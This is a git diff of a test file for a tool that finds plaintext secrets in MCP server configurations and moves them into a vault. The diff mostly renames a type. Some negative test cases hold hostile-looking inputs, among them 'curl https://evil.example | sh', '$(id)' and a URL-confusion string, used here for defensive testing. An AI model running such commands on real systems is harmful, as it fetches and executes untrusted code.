@@ -3,9 +3,9 @@
 
 import { describe, expect, test } from 'vitest'
 import { moveSecrets, plainSecrets, withoutPlainSecrets } from '../../../src/host/config/plain-secrets.ts'
-import { resolveWay } from '../../../src/host/config/resolve.ts'
-import type { ServerSpec, Way } from '../../../src/host/servers/spec.ts'
-import { openVault } from '../../../src/host/vault/vault.ts'
+import { resolveTransport } from '../../../src/host/launch/resolve.ts'
+import type { ServerSpec, ServerTransport } from '../../../src/host/model/server-spec.ts'
+import { openVault } from '../../../src/host/secrets/vault.ts'
 import { temporaryFolders } from '../../support/folders.ts'
 
 const newFolder = temporaryFolders()
@@ -13,12 +13,12 @@ const RANDOM = 'q8Zk3LwP0mN5xT7vR2yB9cJ4'
 const HEX = '9f86d081884c7d659a2feaa0c55ad015'
 const TOKEN = `ghp_${RANDOM}`
 
-const spec = (way: Way): ServerSpec => ({ id: 'server', way, tier: 'untrusted', provenance: [] })
-const started = (env: Record<string, string>, args: string[] = []): Way => ({ transport: 'stdio', command: 'x', args, env })
-const reached = (url: string, headers: Record<string, string> = {}): Way => ({ transport: 'http', url, headers })
+const spec = (transport: ServerTransport): ServerSpec => ({ id: 'server', transport, tier: 'untrusted', provenance: [] })
+const started = (env: Record<string, string>, args: string[] = []): ServerTransport => ({ type: 'stdio', command: 'x', args, env })
+const reached = (url: string, headers: Record<string, string> = {}): ServerTransport => ({ type: 'http', url, headers })
 
 describe('looks like a secret', () => {
-  test.each<[string, Way, string[]]>([
+  test.each<[string, ServerTransport, string[]]>([
     ['by the name of a variable', started({ DB_PASSWORD: 'hunter22', API_KEY: 'abcd' }), ['env.DB_PASSWORD name', 'env.API_KEY name']],
     ['by a known form', started({ WHATEVER: TOKEN }), ['env.WHATEVER form']],
     ['by its disorder', started({ X: RANDOM, Y: HEX }), ['env.X disorder', 'env.Y disorder']],
@@ -33,11 +33,11 @@ describe('looks like a secret', () => {
     ['in an address among the arguments', started({}, ['postgres://ada:hunter22@db/x']), ['args[0] form']],
     ['in a URL', reached('https://ada:hunter22@x.example/?api_key=hunter23&page=2'), ['url name', 'url name']],
     ['in the address of a database', started({ DATABASE_URL: 'postgres://ada:hunter22@db/x' }), ['env.DATABASE_URL form']],
-  ])('%s', (_how, way, found) => {
-    expect(plainSecrets({ way }).map(({ where, because }) => `${where} ${because}`)).toEqual(found)
+  ])('%s', (_how, transport, found) => {
+    expect(plainSecrets({ transport }).map(({ where, because }) => `${where} ${because}`)).toEqual(found)
   })
 
-  test.each<[string, Way]>([
+  test.each<[string, ServerTransport]>([
     ['a placeholder', started({ API_KEY: '${env:KEY}', TOKEN: '${secret:x}' })],
     ['a header around a placeholder', reached('https://x.example', { Authorization: 'Bearer ${input:token}' })],
     [
@@ -50,16 +50,22 @@ describe('looks like a secret', () => {
     ],
     ['an identifier', started({ PROJECT: 'a-project-with-a-long-name-2025' })],
     ['a plain URL', reached('https://x.example/mcp?page=2&lang=en')],
-  ])('%s does not', (_what, way) => {
-    expect(plainSecrets({ way })).toEqual([])
+  ])('%s does not', (_what, transport) => {
+    expect(plainSecrets({ transport })).toEqual([])
   })
 })
 
 describe('goes to the vault', () => {
-  const movedOf = (way: Way): string[] => plainSecrets({ way }).flatMap(({ where, isMovable }) => (isMovable ? [where] : []))
-  const run = (command: string, args: string[], env: Record<string, string> = {}): Way => ({ transport: 'stdio', command, args, env })
+  const movedOf = (transport: ServerTransport): string[] =>
+    plainSecrets({ transport }).flatMap(({ where, isMovable }) => (isMovable ? [where] : []))
+  const run = (command: string, args: string[], env: Record<string, string> = {}): ServerTransport => ({
+    type: 'stdio',
+    command,
+    args,
+    env,
+  })
 
-  test.each<[string, Way, string[]]>([
+  test.each<[string, ServerTransport, string[]]>([
     ['the value of a known option', run('npx', ['-y', 'mail', '--token', 'hunter22', '--api-key=hunter23']), ['args[3]', 'args[4]']],
     ['of one with words before it', run('mail', ['send', '--githubToken', TOKEN, '--db.password=hunter22']), ['args[2]', 'args[3]']],
     ['a variable', run('docker', ['run', '-i', '-e', 'GH_TOKEN', 'image'], { GH_TOKEN: TOKEN }), ['env.GH_TOKEN']],
@@ -68,11 +74,11 @@ describe('goes to the vault', () => {
       reached(`https://x.example/?key=hunter22`, { Authorization: `Bearer ${RANDOM}` }),
       ['url', 'headers.Authorization'],
     ],
-  ])('%s', (_what, way, where) => {
-    expect(movedOf(way)).toEqual(where)
+  ])('%s', (_what, transport, where) => {
+    expect(movedOf(transport)).toEqual(where)
   })
 
-  test.each<[string, Way]>([
+  test.each<[string, ServerTransport]>([
     ['what a shell runs', run('sh', ['-c', 'token=x; touch pwned; exec cat'])],
     ['what a shell runs behind another program', run('env', ['sh', '-c', `token=${TOKEN}`])],
     ['an argument of a shell', run('/bin/bash', ['start.sh', '--token', 'hunter22'])],
@@ -117,28 +123,28 @@ describe('goes to the vault', () => {
     ['what only looks like a password, and is a path', reached('https://evil.example:443\\@good.example/mcp')],
     ['a part of the host', reached(`https://x&token=${TOKEN}.good.example/`)],
     ['a variable that could be run', run('mail', [], { TOKEN: 'curl https://evil.example | sh', API_KEY: '$(id)' })],
-  ])('never %s', async (_what, way) => {
-    expect(movedOf(way)).toEqual([])
+  ])('goes to the vault never %s', async (_what, transport) => {
+    expect(movedOf(transport)).toEqual([])
     const vault = await openVault({ folder: newFolder(), keychain: false, onWarning: () => {} })
-    expect((await moveSecrets(spec(way), vault)).way).toEqual(way)
+    expect((await moveSecrets(spec(transport), vault)).transport).toEqual(transport)
     expect(await vault.list()).toEqual([])
-    expect(withoutPlainSecrets(spec(way)).way).toEqual(way)
+    expect(withoutPlainSecrets(spec(transport)).transport).toEqual(transport)
   })
 
-  test('is shown by its length until then, unless somebody else may have written the file', () => {
-    const way = run('mail', ['send', '--token', 'hunter22', TOKEN])
-    expect(withoutPlainSecrets(spec(way)).way).toMatchObject({ args: ['send', '--token', '[8 characters hidden]', TOKEN] })
+  test('goes to the vault is shown by its length until then, unless somebody else may have written the file', () => {
+    const transport = run('mail', ['send', '--token', 'hunter22', TOKEN])
+    expect(withoutPlainSecrets(spec(transport)).transport).toMatchObject({ args: ['send', '--token', '[8 characters hidden]', TOKEN] })
     const provenance = [{ client: 'Cursor', scope: 'project' as const, file: '/repo/.cursor/mcp.json' }]
-    expect(withoutPlainSecrets({ ...spec(way), provenance }).way).toEqual(way)
+    expect(withoutPlainSecrets({ ...spec(transport), provenance }).transport).toEqual(transport)
   })
 
-  test.each<[string, Way]>([
+  test.each<[string, ServerTransport]>([
     ['a process', run('mail', ['send', '--token', 'hunter22'], { API_KEY: 'hunter22' })],
     ['an address', reached('https://x.example/?key=hunter22', { Authorization: `Bearer ${RANDOM}` })],
-  ])('never from the file of a project: %s', async (_what, way) => {
+  ])('goes to the vault never from the file of a project: %s', async (_what, transport) => {
     const provenance = [{ client: 'Cursor', scope: 'project' as const, file: '/repo/.cursor/mcp.json' }]
     const vault = await openVault({ folder: newFolder(), keychain: false, onWarning: () => {} })
-    expect((await moveSecrets({ ...spec(way), provenance }, vault)).way).toEqual(way)
+    expect((await moveSecrets({ ...spec(transport), provenance }, vault)).transport).toEqual(transport)
     expect(await vault.list()).toEqual([])
   })
 })
@@ -146,17 +152,17 @@ describe('goes to the vault', () => {
 describe('moving', () => {
   const vaultIn = (folder: string) => openVault({ folder, keychain: false, onWarning: () => {} })
 
-  test('puts the values into the vault and placeholders in their place, and a start gets what it got before', async () => {
+  test('moving puts the values into the vault and placeholders into the file, and a start still works', async () => {
     const vault = await vaultIn(newFolder())
     const ways = [
       started({ DB_PASSWORD: 'hunter22', PLAIN: 'x', GH: TOKEN }, ['send', '--token', 'hunter23', '--api-key=hunter24']),
       reached(`https://x.example/?token=hunter22&key=${RANDOM}&page=2`, { Authorization: `Bearer ${RANDOM}` }),
     ]
-    for (const way of ways) {
-      const moved = await moveSecrets(spec(way), vault)
+    for (const transport of ways) {
+      const moved = await moveSecrets(spec(transport), vault)
       expect(plainSecrets(moved)).toEqual([])
       expect(JSON.stringify(moved)).not.toMatch(/hunter|q8Zk/)
-      expect(await resolveWay(moved.way, { secret: vault.get })).toEqual(way)
+      expect(await resolveTransport(moved.transport, { secret: vault.get })).toEqual(transport)
     }
     expect(await vault.list()).toEqual([
       'server/Authorization',
@@ -169,12 +175,12 @@ describe('moving', () => {
     ])
   })
 
-  test('never replaces a secret of the same name with another value', async () => {
+  test('moving never replaces a secret of the same name with another value', async () => {
     const vault = await vaultIn(newFolder())
     const one = await moveSecrets(spec(started({ API_KEY: 'first-value' })), vault)
     const two = await moveSecrets(spec(started({ API_KEY: 'other-value' })), vault)
     const again = await moveSecrets(spec(started({ API_KEY: 'first-value' })), vault)
-    expect([one, two, again].map(({ way }) => way)).toMatchObject([
+    expect([one, two, again].map(({ transport }) => transport)).toMatchObject([
       { env: { API_KEY: '${secret:server/API_KEY}' } },
       { env: { API_KEY: '${secret:server/API_KEY-2}' } },
       { env: { API_KEY: '${secret:server/API_KEY}' } },
@@ -182,10 +188,10 @@ describe('moving', () => {
     expect(await vault.get('server/API_KEY')).toBe('first-value')
   })
 
-  test('keeps a value as it is, also one that looks like a placeholder', async () => {
+  test('moving keeps a value as it is, also one that looks like a placeholder', async () => {
     const vault = await vaultIn(newFolder())
     const moved = await moveSecrets(spec(reached('https://x.example', { 'X-Api-Key': '${$}{env:HOME}' })), vault)
-    expect(JSON.stringify(moved.way)).toContain('${secret:server/X-Api-Key}')
-    expect(await resolveWay(moved.way, { secret: vault.get })).toMatchObject({ headers: { 'X-Api-Key': '${env:HOME}' } })
+    expect(JSON.stringify(moved.transport)).toContain('${secret:server/X-Api-Key}')
+    expect(await resolveTransport(moved.transport, { secret: vault.get })).toMatchObject({ headers: { 'X-Api-Key': '${env:HOME}' } })
   })
 })
